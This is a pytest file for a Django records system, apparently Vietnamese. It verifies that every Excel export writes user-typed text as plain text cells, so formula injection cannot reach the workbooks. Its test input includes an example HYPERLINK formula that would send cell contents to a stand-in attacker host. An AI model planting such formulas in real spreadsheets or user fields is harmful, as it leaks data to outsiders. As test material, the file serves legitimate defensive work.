"""Excel never carries a formula (issue 12, item 4): every workbook the system writes stores
text typed by users as text cells, exactly as typed — a name such as `=HYPERLINK(...)` is not a
live formula in any export (history, due list, movements, statistics)."""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tdkt.core import excel
from tdkt.history.exporter import export_workbook
from tdkt.history.models import AwardType, PersonAward
from tdkt.organisation.models import Unit
from tdkt.people.models import Person

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
# Text that merely begins with a formula character; kept exactly as typed.
TEXTS = [PAYLOAD, "+84 912 345 678", "-", "@SUM(A1)", "=abc", "\t=1+1", "\r=1+1", "#N/A"]


def cells_of(data: bytes) -> list:
    """Every cell of every sheet, read as stored (not data_only: formulas stay formulas)."""
    book = load_workbook(io.BytesIO(data))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def assert_no_formula(data: bytes, *texts: str) -> None:
    cells = cells_of(data)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    values = {c.value for c in cells}
    for text in texts:
        assert text in values  # the visible text is unchanged (no quote prefixed)
    for c in cells:
        if c.value in texts:
            assert c.data_type == "s"


@pytest.mark.parametrize("write_only", [False, True])
def test_the_shared_writer_types_every_value_and_never_writes_a_formula(write_only):
    book = Workbook(write_only=write_only)
    ws = book.create_sheet("Trang")
    excel.append(ws, TEXTS)
    excel.append(ws, [12, 2.5, True, datetime.date(2024, 5, 2), None, "001085000001"])
    buffer = io.BytesIO()
    book.save(buffer)
    assert_no_formula(buffer.getvalue(), *TEXTS)
    sheet = load_workbook(io.BytesIO(buffer.getvalue()))["Trang"]
    assert [c.value for c in sheet[1]] == TEXTS
    numbers = [c.value for c in sheet[2]]
    assert numbers[:4] == [12, 2.5, True, datetime.datetime(2024, 5, 2)]
    assert sheet["D2"].number_format == "DD/MM/YYYY"
    assert numbers[5] == "001085000001"  # identity numbers keep their leading zeros


def test_history_export_writes_a_formula_like_name_as_text(cast, tmp_path):
    Person.objects.filter(pk=cast.person_a.pk).update(full_name=PAYLOAD, position="-")
    PersonAward.objects.create(
        person=cast.person_a, year=2024, award=AwardType.objects.get(
            code="bang_khen_bo_truong_bo_tu_phap"),
        decision_number="+1/QĐ-BTP", issuer="@Bộ trưởng",
        decision_date=datetime.date(2024, 5, 2),
    )
    path = tmp_path / "out.xlsx"
    export_workbook(path, scope_paths=[cast.unit_a.path])
    data = path.read_bytes()
    assert_no_formula(data, PAYLOAD, "-", "+1/QĐ-BTP", "@Bộ trưởng")
    people = load_workbook(io.BytesIO(data))["Nhân sự"]
    rows = {r[0]: r for r in people.iter_rows(min_row=2, values_only=True)}
    assert rows[cast.person_a.id_number][1] == PAYLOAD
    assert rows[cast.person_a.id_number][5] == "-"


def test_due_list_export_writes_a_formula_like_name_as_text(
    cast, client_for, django_capture_on_commit_callbacks
):
    from tests.eligibility.test_services import give_record

    Person.objects.filter(pk=cast.person_a.pk).update(full_name=PAYLOAD)
    give_record(cast.person_a, {2025: "HTXSNV"}, {2025: ["lao_dong_tien_tien"]})
    client = client_for(cast.officer_a)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("eligibility:sweep_start"), {"don_vi": "STP-01", "nam": "2025"}
        )
    assert response.status_code == 302
    response = client.get(reverse("eligibility:due_list"), {"nam": 2025, "xuat": "excel"})
    assert response.status_code == 200
    assert_no_formula(response.content, PAYLOAD)


def test_movement_exports_write_formula_like_text_as_text(cast, client_for):
    from tdkt.accounts.models import Role
    from tests.factories import make_user
    from tests.movements.helpers import make_movement

    dept = make_user("thuong_truc", Role.EMULATION_DEPT, "BTP")
    movement = make_movement(dept, name=PAYLOAD, theme="@Chủ đề")
    client = client_for(dept)
    response = client.get(reverse("movements:index"), {"xuat": "xlsx"})
    assert response.status_code == 200
    assert_no_formula(response.content, PAYLOAD, "@Chủ đề")
    response = client.get(reverse("movements:rollup", args=[movement.pk]), {"xuat": "xlsx"})
    assert response.status_code == 200
    assert_no_formula(response.content)


def test_movement_export_helper_writes_every_cell_typed():
    from tdkt.movements.exports import xlsx_response

    response = xlsx_response("x.xlsx", "Tiêu đề", ["Tên", "Số"],
                             [TEXTS[:2], TEXTS[2:4], ("-", 7)])
    assert_no_formula(response.content, *TEXTS[:4])
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in sheet[5]] == ["-", 7]


def test_statistics_export_writes_formula_like_text_as_text():
    from tdkt.documents.stats import Row, Table, to_excel

    table = Table("0601", "Biểu 0601", 2025, "Sở Tư pháp", ["Tổng số"],
                  rows=[Row(PAYLOAD, [1]), Row("-", [2])], notes=["@ghi chú"])
    data = to_excel(table)
    assert_no_formula(data, PAYLOAD, "-")
    sheet = load_workbook(io.BytesIO(data)).active
    row = next(r for r in sheet.iter_rows(values_only=True) if r[0] == PAYLOAD)
    assert row[0] == PAYLOAD and row[2] == 1


def test_statistics_export_writes_a_formula_like_unit_name_as_text(cast, client_for):
    Unit.objects.filter(pk=cast.unit_a.pk).update(name=PAYLOAD)
    response = client_for(cast.officer_a).get(
        reverse("documents:statistics_excel"), {"bieu": "0601", "nam": 2025, "don_vi": "STP-01"}
    )
    assert response.status_code == 200
    cells = cells_of(response.content)
    assert [c for c in cells if c.data_type == "f"] == []
    assert any(isinstance(c.value, str) and PAYLOAD in c.value for c in cells)


def test_every_workbook_the_project_writes_goes_through_the_shared_writer():
    """A new export that calls openpyxl's `append` directly would bring formulas back."""
    import re
    from pathlib import Path

    import tdkt

    root = Path(tdkt.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "excel.py" and path.parent.name == "core":
            continue
        text = path.read_text(encoding="utf-8")
        if "Workbook(" not in text:
            continue
        if "from tdkt.core import excel" not in text:
            offenders.append(f"{path.relative_to(root)}: does not use tdkt.core.excel")
        for number, line in enumerate(text.splitlines(), start=1):
            if re.search(r"\b(ws|sheet|guide|self\.ws)\.append\(", line):
                offenders.append(f"{path.relative_to(root)}:{number}: {line.strip()}")
    assert offenders == []
